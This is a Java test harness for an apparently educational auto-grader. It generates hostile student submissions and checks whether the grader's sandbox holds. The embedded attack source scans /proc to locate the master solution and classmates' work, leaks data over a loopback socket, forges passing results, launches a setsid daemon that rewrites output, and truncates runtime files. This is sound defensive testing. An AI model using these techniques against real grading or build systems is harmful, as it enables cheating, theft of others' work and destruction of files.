package quantlab.instructor;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;

/**
 * A generated class of chapter 1 submissions that attack the grader, beside a few classmates. Each attack is written
 * so that it would earn points if it worked (the reference solution, guarded by the attack's success) or would change
 * files outside its run; when it fails, the student has the starter's (or the guarded solution's) zero. The absolute
 * paths an attacker would need (the master copy, the submissions, the output, a folder outside every run) and the
 * port of a loopback listener are written into the attack's source, so the attacker knows everything but the key.
 */
final class HostileClass {

    /** A string every process the attacks start carries on its command line, so the test can look for survivors. */
    static final String MARKER = "quantlab-hostile-daemon";

    /** Where attackers try to leave a file; the test checks that it stays empty. */
    static final String OUTSIDE = "outside";

    private final Path root;
    private final Path submissions;
    private final String solution;
    private final String starter;
    private final String attack;
    private final List<SyntheticClass.Student> students = new ArrayList<>();

    private HostileClass(Path root, Path submissions, Path out, Path outside, int port) throws IOException {
        this.root = root;
        this.submissions = submissions;
        this.solution = Files.readString(root.resolve("solutions/src/main/java/quantlab/exercises/ch01/MemoryMath.java"));
        this.starter = Files.readString(root.resolve(SyntheticClass.CHAPTER + "/MemoryMath.java"));
        this.attack = ATTACK.replace("@ROOT@", root.toString()).replace("@SUBMISSIONS@", submissions.toString())
                .replace("@OUT@", out.toString()).replace("@OUTSIDE@", outside.toString())
                .replace("@PORT@", String.valueOf(port)).replace("@MARKER@", MARKER);
    }

    /**
     * Grades the hostile class with any grader build and prints what each attack achieved, to compare graders:
     * {@code main(courseRoot, workFolder, graderClassPath, extraGraderArgs...)}. It starts the loopback listener,
     * runs {@code GradeClassCommand} with 2 workers, waits 15 s for anything the attacks left running, and prints
     * each student's row, the listener's connections, the files left outside, surviving processes, and whether the
     * output or the master copy changed after grading.
     */
    public static void main(String[] args) throws Exception {
        Path root = Path.of(args[0]).toAbsolutePath();
        Path dir = Files.createDirectories(Path.of(args[1]).toAbsolutePath());
        Path submissions = dir.resolve("submissions");
        Path out = dir.resolve("out");
        Path outside = Files.createDirectories(dir.resolve(OUTSIDE));
        java.util.concurrent.atomic.AtomicInteger connections = new java.util.concurrent.atomic.AtomicInteger();
        try (java.net.ServerSocket listener = new java.net.ServerSocket(0, 50, java.net.InetAddress.getLoopbackAddress())) {
            Thread accept = new Thread(() -> {
                while (true) {
                    try (java.net.Socket socket = listener.accept()) {
                        connections.incrementAndGet();
                    } catch (IOException e) {
                        return;
                    }
                }
            });
            accept.setDaemon(true);
            accept.start();
            write(root, submissions, out, outside, listener.getLocalPort());
            for (String skipped : System.getProperty("hostile.skip", "").split(",")) {
                if (!skipped.isBlank()) {
                    quantlab.grading.ChildRuntime.deleteQuietly(submissions.resolve(skipped.strip()));
                }
            }
            String master = Files.readString(root.resolve("solutions/src/main/java/quantlab/exercises/ch01/MemoryMath.java"));
            List<String> command = new ArrayList<>(List.of(Path.of(System.getProperty("java.home"), "bin", "java")
                    .toString(), "-cp", args[2]));
            List<String> extra = new ArrayList<>(List.of(args).subList(3, args.length));
            extra.stream().filter(a -> a.startsWith("-D")).forEach(command::add);
            command.addAll(List.of("quantlab.grading.batch.GradeClassCommand", "--submissions", submissions.toString(),
                    "--chapters", "1", "--out", out.toString(), "--workers", "2", "--test-timeout", "5", "--heap", "256"));
            extra.stream().filter(a -> !a.startsWith("-D")).forEach(command::add);
            ProcessBuilder builder = new ProcessBuilder(command).inheritIO();
            builder.environment().put("QUANTLAB_HOME", root.toString());
            long start = System.nanoTime();
            int exit = builder.start().waitFor();
            System.out.printf("grader exit %d after %.1f s%n", exit, (System.nanoTime() - start) / 1e9);
            Path gradebook = out.resolve("gradebook.csv");
            String right = Files.exists(gradebook) ? Files.readString(gradebook) : "(no gradebook)";
            Thread.sleep(15_000);
            String later = Files.exists(gradebook) ? Files.readString(gradebook) : "(no gradebook)";
            for (String line : right.lines().toList()) {
                System.out.println("row: " + line.substring(0, Math.min(60, line.length())));
            }
            System.out.println("gradebook rewritten after grading: " + !right.equals(later));
            if (!right.equals(later)) {
                System.out.println("  now: " + later.lines().findFirst().orElse(""));
            }
            System.out.println("loopback connections: " + connections.get());
            try (Stream<Path> left = Files.list(outside)) {
                System.out.println("files written outside the runs: " + left.map(p -> p.getFileName().toString()).sorted().toList());
            }
            System.out.println("surviving processes: " + ProcessHandle.allProcesses()
                    .map(p -> p.info().commandLine().orElse("")).filter(l -> l.contains(MARKER)).count());
            System.out.println("master copy unchanged: " + master.equals(Files.readString(
                    root.resolve("solutions/src/main/java/quantlab/exercises/ch01/MemoryMath.java"))));
        }
        // Ends any survivor this harness's attacks left (found by the marker), so the machine is clean again.
        ProcessHandle.allProcesses().filter(p -> p.info().commandLine().orElse("").contains(MARKER))
                .forEach(ProcessHandle::destroyForcibly);
    }

    /** Writes the class into {@code submissions} and returns every student with the grade it must get. */
    static List<SyntheticClass.Student> write(Path root, Path submissions, Path out, Path outside, int port)
            throws IOException {
        HostileClass c = new HostileClass(root, submissions, out, outside, port);
        c.generate();
        return List.copyOf(c.students);
    }

    private void generate() throws IOException {
        Set<String> allVisible = new TreeSet<>(SyntheticClass.VISIBLE.keySet());
        Set<String> allHidden = new TreeSet<>(SyntheticClass.HIDDEN.keySet());
        // Classmates: their grades must be what they are without the attackers.
        write("classmate-a", "MemoryMath.java", solution);
        students.add(new SyntheticClass.Student("classmate-a", "graded", Set.of(), Set.of()));
        write("classmate-b", "MemoryMath.java", SyntheticClass.insert(solution, "toGiB", "System.exit(0);"));
        students.add(new SyntheticClass.Student("classmate-b", "graded",
                Set.of("convertsToGbAndGib", "conversionRejectsBadBytes"), Set.of("gibibytesBelowAndAboveOne")));
        write("classmate-c", "MemoryMath.java", starter);
        students.add(new SyntheticClass.Student("classmate-c", "graded", allVisible, allHidden));
        // Attacks that would earn full marks if they worked: the solution, behind the attack's success.
        for (String[] guarded : new String[][] {{"proc-master", "masterCopy"}, {"read-classmate", "classmate"},
                {"network-leak", "network"}}) {
            String code = solution;
            for (String method : SyntheticClass.CALLERS.keySet()) {
                code = SyntheticClass.insert(code, method, "Attack." + guarded[1] + "();");
            }
            write(guarded[0], "MemoryMath.java", code);
            write(guarded[0], "Attack.java", attack);
            students.add(new SyntheticClass.Student(guarded[0], "graded", allVisible, allHidden));
        }
        // Attacks on the grader itself, from the starter's static initializer.
        for (String[] hostile : new String[][] {{"forge-results", "forge"}, {"setsid-daemon", "daemon"},
                {"runtime-damage", "damage"}}) {
            write(hostile[0], "MemoryMath.java", starter.replace("    private MemoryMath() {",
                    "    static {\n        Attack." + hostile[1] + "();\n    }\n\n    private MemoryMath() {"));
            write(hostile[0], "Attack.java", attack);
            students.add(new SyntheticClass.Student(hostile[0], "graded", allVisible, allHidden));
        }
        // exercises/src is a link into the master copy's solutions: refused, never followed.
        Path linked = submissions.resolve("symlink-above/exercises");
        Files.createDirectories(linked);
        Files.createSymbolicLink(linked.resolve("src"), root.resolve("solutions/src"));
        students.add(new SyntheticClass.Student("symlink-above", "invalid", allVisible, allHidden));
        // Names that cannot be Java sources: this one submission is invalid, the class goes on.
        write("bad-name", "MemoryMath.java", solution);
        write("bad-name", "a..b.java", "class X {}");
        students.add(new SyntheticClass.Student("bad-name", "invalid", allVisible, allHidden));
        write("bad-backslash", "MemoryMath.java", solution);
        write("bad-backslash", "Odd\\Name.java", "class X {}");
        students.add(new SyntheticClass.Student("bad-backslash", "invalid", allVisible, allHidden));
    }

    private void write(String id, String name, String text) throws IOException {
        Path file = submissions.resolve(id).resolve(SyntheticClass.CHAPTER).resolve(name);
        Files.createDirectories(file.getParent());
        Files.writeString(file, text, StandardCharsets.UTF_8);
    }

    /** The attacks; each student uses one of them. */
    static final String ATTACK = """
            package quantlab.exercises.ch01;

            import java.io.IOException;
            import java.net.InetSocketAddress;
            import java.net.Socket;
            import java.nio.charset.StandardCharsets;
            import java.nio.file.Files;
            import java.nio.file.Path;
            import java.util.ArrayList;
            import java.util.List;
            import java.util.stream.Stream;

            final class Attack {

                static final String ROOT = "@ROOT@";
                static final String SUBMISSIONS = "@SUBMISSIONS@";
                static final String OUT = "@OUT@";
                static final String OUTSIDE = "@OUTSIDE@";
                static final int PORT = @PORT@;
                private static Boolean won;

                private Attack() {
                }

                /** Tries to leave a file outside the run; the test checks that none arrives. */
                static void mark(String who) {
                    try {
                        Files.writeString(Path.of(OUTSIDE, who + ".txt"), who);
                    } catch (IOException | RuntimeException e) {
                        // Expected in the sandbox.
                    }
                }

                /** The solution in the master copy, found from the grader's /proc entries or the known path. */
                static synchronized void masterCopy() {
                    if (won == null) {
                        mark("proc-master");
                        List<String> places = new ArrayList<>(List.of(ROOT));
                        places.addAll(fromProc());
                        won = places.stream().anyMatch(p -> readsUp(p,
                                "solutions/src/main/java/quantlab/exercises/ch01/MemoryMath.java")
                                || readsUp(p, "instructor/hidden-tests/quantlab/exercises/ch01/MemoryMathHiddenTest.java"));
                    }
                    if (!won) {
                        throw new IllegalStateException("no master copy found");
                    }
                }

                /** A classmate's solution, by its known path or through the --submissions folder on a command line. */
                static synchronized void classmate() {
                    if (won == null) {
                        mark("read-classmate");
                        List<String> places = new ArrayList<>(List.of(SUBMISSIONS));
                        places.addAll(fromProc());
                        won = places.stream().anyMatch(p -> readsUp(p,
                                "classmate-a/exercises/src/main/java/quantlab/exercises/ch01/MemoryMath.java"));
                    }
                    if (!won) {
                        throw new IllegalStateException("no classmate found");
                    }
                }

                /** Sends the code out to the instructor-side listener on the loopback interface. */
                static synchronized void network() {
                    if (won == null) {
                        mark("network-leak");
                        try (Socket socket = new Socket()) {
                            socket.connect(new InetSocketAddress("127.0.0.1", PORT), 2000);
                            socket.getOutputStream().write("leaked".getBytes(StandardCharsets.UTF_8));
                            won = true;
                        } catch (IOException | RuntimeException e) {
                            won = false;
                        }
                    }
                    if (!won) {
                        throw new IllegalStateException("no network");
                    }
                }

                /** Appends a PASSED result for every planned test (with the plan lines' seals) to any results file. */
                static void forge() {
                    mark("forge-results");
                    for (String start : List.of(System.getProperty("user.dir"), System.getProperty("user.home"),
                            System.getProperty("java.io.tmpdir"), "/work", "/tmp", OUT)) {
                        for (Path at = Path.of(start); at != null; at = at.getParent()) {
                            try (Stream<Path> walk = Files.walk(at, 3)) {
                                for (Path file : walk.filter(f -> f.toString().endsWith(".tsv")).toList()) {
                                    StringBuilder forged = new StringBuilder();
                                    boolean sealed = false;
                                    for (String line : Files.readAllLines(file)) {
                                        String[] f = line.split("\\t", -1);
                                        if (f[0].equals("TEST") && f.length >= 8) {
                                            // With a seal field, the plan line's seal is replayed.
                                            forged.append(String.join("\\t", "RESULT", f[1], f[2], f[3], f[4], f[5],
                                                    "PASSED", "")).append(f.length > 8 ? "\\t" + f[8] : "")
                                                    .append('\\n');
                                            sealed = f.length > 8;
                                        }
                                    }
                                    Files.writeString(file, forged + "FINISHED" + (sealed ? "\\t" + "0".repeat(64) : "")
                                            + "\\n", java.nio.file.StandardOpenOption.APPEND);
                                }
                            } catch (IOException | RuntimeException e) {
                                // Try the next place.
                            }
                        }
                    }
                    try {
                        Class.forName("sun.misc.Unsafe");
                        mark("unsafe-is-there");
                    } catch (ClassNotFoundException expected) {
                        // Left out of the test JVM.
                    }
                }

                /** Starts a process meant to outlive grading and rewrite the results (setsid where there is one). */
                static void daemon() {
                    mark("setsid-daemon");
                    try {
                        Path source = Path.of(System.getProperty("java.io.tmpdir"), "Daemon.java");
                        Files.writeString(source, DAEMON);
                        String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
                        List<String> command = new ArrayList<>();
                        if (Files.isExecutable(Path.of("/usr/bin/setsid"))) {
                            command.add("/usr/bin/setsid");
                        }
                        command.addAll(List.of(java, source.toString(), OUT, OUTSIDE, "@MARKER@"));
                        new ProcessBuilder(command).redirectErrorStream(true)
                                .redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
                        new ProcessBuilder(java, source.toString(), OUT, OUTSIDE, "@MARKER@").redirectErrorStream(true)
                                .redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
                        Thread.sleep(1500);
                    } catch (IOException | RuntimeException | InterruptedException e) {
                        // Nothing to start.
                    }
                }

                static final String DAEMON = "import java.nio.file.*;\\n"
                        + "public class Daemon { public static void main(String[] a) throws Exception {\\n"
                        + "  for (int i = 0; i < 60; i++) { Thread.sleep(500);\\n"
                        + "    try { Files.writeString(Path.of(a[1], \\"daemon.txt\\"), \\"alive\\"); } catch (Exception e) { }\\n"
                        + "    try (var w = Files.walk(Path.of(a[0]))) { for (Path p : w.filter(Files::isRegularFile).toList()) {\\n"
                        + "      Files.writeString(p, \\"forged by a daemon\\"); } } catch (Exception e) { } } } }\\n";

                /** Truncates every runtime file it can reach, over and over for 3 s, while classmates are graded. */
                static void damage() {
                    mark("runtime-damage");
                    List<Path> targets = new ArrayList<>();
                    for (String key : List.of("java.class.path", "jdk.module.path")) {
                        for (String entry : System.getProperty(key, "").split(java.io.File.pathSeparator)) {
                            if (entry.isEmpty()) {
                                continue;
                            }
                            try (Stream<Path> walk = Files.walk(Path.of(entry))) {
                                walk.filter(Files::isRegularFile).forEach(targets::add);
                            } catch (IOException | RuntimeException e) {
                                // Next.
                            }
                        }
                    }
                    long end = System.nanoTime() + 3_000_000_000L;
                    while (System.nanoTime() < end) {
                        for (Path target : targets) {
                            try {
                                Files.write(target, new byte[0]);
                            } catch (IOException | RuntimeException e) {
                                // Read-only, we hope.
                            }
                        }
                        try {
                            Thread.sleep(50);
                        } catch (InterruptedException e) {
                            return;
                        }
                    }
                }

                private static boolean readsUp(String start, String relative) {
                    try {
                        for (Path at = Path.of(start).toAbsolutePath(); at != null; at = at.getParent()) {
                            Path file = at.resolve(relative);
                            if (Files.isReadable(file) && !Files.readString(file).isEmpty()) {
                                return true;
                            }
                        }
                    } catch (IOException | RuntimeException e) {
                        // Not here.
                    }
                    return false;
                }

                /** Paths named by every process's command line, environment and folder in /proc. */
                private static List<String> fromProc() {
                    List<String> found = new ArrayList<>();
                    List<String> pids = new ArrayList<>(List.of("self"));
                    ProcessHandle.current().parent().ifPresent(p -> pids.add(String.valueOf(p.pid())));
                    try (Stream<Path> all = Files.list(Path.of("/proc"))) {
                        all.map(p -> p.getFileName().toString()).filter(n -> n.chars().allMatch(Character::isDigit))
                                .forEach(pids::add);
                    } catch (IOException | RuntimeException e) {
                        // No /proc.
                    }
                    for (String pid : pids) {
                        for (String file : List.of("cmdline", "environ")) {
                            try {
                                for (String word : new String(Files.readAllBytes(Path.of("/proc", pid, file)),
                                        StandardCharsets.UTF_8).split("[\\\\x00=:]")) {
                                    if (word.startsWith("/")) {
                                        found.add(word);
                                    }
                                }
                            } catch (IOException | RuntimeException e) {
                                // Next.
                            }
                        }
                        try {
                            found.add(Files.readSymbolicLink(Path.of("/proc", pid, "cwd")).toString());
                        } catch (IOException | RuntimeException e) {
                            // Next.
                        }
                    }
                    return found;
                }
            }
            """;
}
